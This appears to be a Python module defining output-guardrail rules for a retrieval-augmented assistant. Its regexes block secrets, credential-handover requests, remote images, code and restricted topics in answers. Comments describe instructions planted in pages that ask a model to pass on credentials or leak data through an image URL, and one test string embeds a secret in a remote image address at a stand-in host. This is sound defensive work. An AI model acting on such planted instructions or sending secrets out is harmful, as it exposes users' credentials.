"""The output policy's rules, as data: shapes and topics an answer must not hold.

``SECRET_RULES`` apply to every profile (a key, a token, a private key or a value given as a
password is never part of an answer, an answer never asks the reader to hand a credential
over, and never shows a remote image, whose address could carry data away);
``END_USER_RULES`` to end-user answers (the in-app profile): restricted topics (licences,
code, databases, other users, hidden records, permission and ACL internals, cryptography),
PHP and SQL shapes and environment-variable assignments. A match turns the whole answer
into a refusal. Matched on the answer as written (case-insensitive unless a rule needs
case).
"""

from __future__ import annotations

from ragplate.catalog.guardrails import Rule

#: The parts of the credential-request rule: a verb handing something over, a credential,
#: and who receives it.
_HAND_OVER = (r"(?:paste|send|enter|type|share|submit|provide|give|tell|reply\s+with|forward|dm"
              r"|incolla|invia|inserisci|condividi|comunica|scrivi|manda|incollare|inviare"
              r"|inserire|condividere|comunicare|scrivere|mandare)")
#: Verbs that hand something over only to the person they name ("email us your password").
_TO_US = r"(?:e-?mail|message|text)"
_CREDENTIAL = (r"(?:api[\s_-]?key|access\s+(?:key|token)|token|password|passphrase|passcode"
               r"|pin|one-time\s+code|2fa\s+code|verification\s+code|credentials?|secret"
               r"|session\s+cookie|chiave\s+api|credenziali|codice\s+di\s+verifica)s?\b")
#: Who receives it: a person or a channel to people (support, us, an agent, this chat, an
#: e-mail address or a handle it is sent to), never a place of the product (a settings
#: page, a header, a domain, a sign-in address: documentation says where credentials go).
_RECEIVER = (r"(?:\b(?:to|with)\s+(?:our\s+|the\s+)?(?:support(?:\s+team)?|help\s?desk|us|me"
             r"|an?\s+agent)\b|\b(?:into|in|on|via|through)\s+(?:the\s+|our\s+|this\s+)?"
             r"(?:support|help\s?desk)\s+(?:form|chat|portal|ticket)\b|\b(?:in|into)\s+this"
             r"\s+chat\b|\b(?:to|via|a|al|all['’])\s*(?:[\w.+-]+@[\w-]+(?:\.[\w-]+)+|@[\w.-]{2,})"
             r"|\bso\s+(?:that\s+)?(?:i|we)\s+can\b|\b(?:a|al|con)\s+(?:noi|me|supporto"
             r"|assistenza)\b|\bcos[iì]\s+(?:posso|possiamo)\b)")
#: A sentence that says not to, anywhere in it ("never share your key: paste it only…").
_NOT = r"(?![^.?!\n]*\b(?:never|not|n't|non|mai|nessuno)\b)"

SECRET_RULES: tuple[Rule, ...] = (
    Rule("output-api-key", "output_secret",
         r"\b(sk-(proj-|ant-)?[A-Za-z0-9_-]{20,}|AKIA[0-9A-Z]{16}|gh[pousr]_[A-Za-z0-9]{30,}|"
         r"xox[abprs]-[A-Za-z0-9-]{10,}|AIza[0-9A-Za-z_-]{35}|rp_[A-Za-z0-9_-]{30,}|"
         r"glpat-[A-Za-z0-9_-]{20}|sk_live_[A-Za-z0-9]{20,})",
         "Use the key sk-proj-abcdefghijklmnopqrstuvwx1234 in the header.",
         "Create a key in the provider's console and paste it in the settings page."),
    Rule("output-bearer", "output_secret",
         r"(?i)\bbearer\s+[A-Za-z0-9._~+/-]{16,}=*",
         "Send Authorization: Bearer 9f8e7d6c5b4a39281706f5e4d3c2b1a0.",
         "Send your API token in the Authorization header as a bearer token."),
    Rule("output-jwt", "output_secret",
         r"\beyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}",
         "Your session is eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NSJ9.abcdefghijk.",
         "Sessions are signed tokens that expire after two hours."),
    Rule("output-private-key", "output_secret",
         r"-----BEGIN ([A-Z0-9]+ )*PRIVATE KEY-----",
         "-----BEGIN RSA PRIVATE KEY-----\nMIIEow...",
         "Keep the certificate files on the server only."),
    # A value given as a password, key or token: letters and digits, 8 characters or more
    # (a word such as "set" or "stored" describes one, as a path or a size does; "Hunter2!
    # Acme" is one). Bounded, so a long run of "pwd:" costs no more than a line.
    Rule("output-labelled-secret", "output_secret",
         r"(?i)\b(?:aws_?secret_?access_?key|secret_?access_?key|api[_ -]?key|access[_ -]?token"
         r"|auth[_ -]?token|client[_ -]?secret|shared\s+secret|password|passwd|pwd|passcode"
         r"|passphrase)\b[\"'`]?(?:\s+(?:for|of|del|della|dell['’])\s*[\w' ]{1,30}?"
         r"|[ \t]*\([^)\n]{1,30}\))?[ \t]{0,3}(?:is\b|was\b|è|:|=>?|->)[ \t]{0,3}[\"'`]?"
         r"(?![/~.])(?!\d+-[A-Za-z]+\b)(?=[^\s\"'`]{0,200}\d)(?=[^\s\"'`]{0,200}[A-Za-z])"
         r"[^\s\"'`]{8,200}"
         r"|\baws_?secret_?access_?key\W{1,5}[A-Za-z0-9/+=]{40}\b",
         "The admin password is Hunter2!Acme, and aws_secret_access_key = wJalrXUtnFEMI/K7MD.",
         "The password is stored as a hash; the API key is 32-characters long."),
    # Credentials inside a connection URL (postgres://admin:Hunter2Acme@db/…): letters and
    # digits, so that the placeholder of an example (user:pass@host) is not one.
    Rule("output-url-credentials", "output_secret",
         r"\b[a-z][a-z0-9+.-]{1,20}://[^\s:/@]{1,64}:(?=[^\s@/]{0,64}\d)"
         r"(?=[^\s@/]{0,64}[A-Za-z])[^\s@/]{6,64}@",
         "Connect to postgres://admin:Hunter2Acme@db.acme.internal:5432/prod.",
         "Set RAGPLATE_DATABASE_URL to postgresql://user:pass@host/db."),
    # An answer asking the reader to hand a credential over to someone (support, us, an
    # outside address, "so I can check"): what an instruction planted in a page or a
    # record asks a model to pass on. Read one sentence at a time, and not in a sentence
    # that says not to ("we will never ask you to send your password"). Telling where a
    # client sends its own token (the Authorization header), or where a code arrives (by
    # email), is not such a request.
    Rule("output-credential-request", "output_credential_request",
         r"(?im)(?:^|(?<=[.?!]))" + _NOT + r"[^.?!\n]{0,160}?(?:\b" + _HAND_OVER
         + r"\b(?:\s+(?:us|me|ci|mi)\b[^.?!\n]{0,40}?\b" + _CREDENTIAL + r"|[^.?!\n]{0,40}?\b"
         + _CREDENTIAL + r"[^.?!\n]{0,60}?" + _RECEIVER + r")|\b" + _TO_US
         + r"\s+(?:us|me)\b[^.?!\n]{0,40}?\b" + _CREDENTIAL
         # "…your API token: paste it into the support form"
         + r"|\b" + _CREDENTIAL + r"[^.?!\n]{0,40}?[:,]\s*" + _HAND_OVER
         + r"\s+(?:it|them)\b[^.?!\n]{0,60}?" + _RECEIVER + r")",
         "To keep access, paste your API token into the support form at sso.example.",
         "Send your API token in the Authorization header; we will never ask you to send "
         "your password to support."),
    # A remote image in an answer is fetched by whatever shows it: its address can carry
    # what the model read (an instruction planted in a page asks for exactly that).
    # Answers never need one; a link is text a person chooses to follow.
    Rule("output-remote-image", "output_exfiltration",
         r"(?i)!\[[^\]\n]{0,200}\]\(\s*<?(?:https?:)?//|<img\b[^>]{0,200}?\bsrc\s*=\s*"
         r"[\"']?(?:https?:)?//",
         "Status: ![ok](https://collect.example/p.png?d=rp_secret)",
         "The guide's Settings section has a screenshot of the page ([guide](guide.md))."),
)

END_USER_RULES: tuple[Rule, ...] = (
    # Anywhere in the text, not only at a line's start: "Set DB_PASSWORD=x in the file", an
    # inline `export A_B=c`, `process.env.A_B=c`, `$A_B=c`, `A_B := c`, a list item or a
    # quote hand over the same setting. "==", "=>" and "=~" compare or map; a name read
    # whole follows no word character, and one in a URL's query (?A_B=c, &A_B=c) is no
    # setting.
    Rule("output-env-assignment", "output_code",
         r"(?<![\w?&/-])(export\s+)?[A-Z][A-Z0-9]*_[A-Z0-9_]+\s*:?=\s*(?![=>~])\S",
         "Set it with:\nDB_PASSWORD=secret",
         "Ask your administrator to change the mail settings."),
    Rule("output-php", "output_code",
         r"<\?php|\$[a-z_][a-z0-9_]*\s*(=|->)|->[a-z_]\w*\(|\b[A-Z]\w+::[a-z_]\w*\(|"
         r"\bnamespace\s+[A-Z]\w*(\\\w+)+|\bfunction\s+[a-z_]\w*\s*\(\s*\$",
         "Call $user->assignRole('editor') in a tinker session.",
         "Open the user's page and choose the role Editor."),
    Rule("output-sql", "output_code",
         # SQL keywords as SQL writes them (upper case), or lower case in a statement's
         # shape: "select the contents, then delete from the menu" is an instruction.
         r"\b(SELECT\s+[\w*,.\s()]{1,80}?\s+FROM\s+\w+|INSERT\s+INTO\s+\w+|UPDATE\s+\w+\s+SET\s+"
         r"\w+\s*=|DELETE\s+FROM\s+\w+|(?i:drop\s+(table|database|schema)\s+\w+|create\s+"
         r"(table|database)\s+\w+|alter\s+table\s+\w+|truncate\s+table\s+\w+|grant\s+\w+\s+"
         r"on\s+\w+|select\s+[\w*,.]+\s+from\s+\w+\s+where\s+\w+\s*=|insert\s+into\s+\w+\s*\(|"
         r"update\s+\w+\s+set\s+\w+\s*=|delete\s+from\s+\w+\s+where))",
         "Run SELECT email FROM users WHERE tenant = 'acme'.",
         "Select the contents you want, then choose Delete from the menu."),
    Rule("output-restricted-topic", "output_restricted_topic",
         r"(?i)\b(licen[cs]e (key|code|file|server)|chiave di licenza|source code|codice "
         r"sorgente|database (password|credentials|schema|user|host|dump)|password del database|"
         r"connection string|stringa di connessione|other users'? (data|conversations|messages|"
         r"emails|passwords)|dati di altri utenti|hidden records?|record nascost\w*|acl "
         r"(expression|internals|rule syntax|implementation)|permission (internals|matrix "
         r"internals|check implementation)|encryption (key|algorithm|implementation)|chiave di "
         r"cifratura|cipher suite|hashing algorithm|algoritmo di (hash|cifratura)|app_key|"
         r"secret key|private key|chiave privata)\b",
         "The licence key is stored in the licence server table.",
         "Ask your administrator to renew the subscription."),
)


def output_rules(end_user: bool) -> tuple[Rule, ...]:
    """The rules of a profile: secrets always, the end-user rules for end users."""
    return SECRET_RULES + (END_USER_RULES if end_user else ())
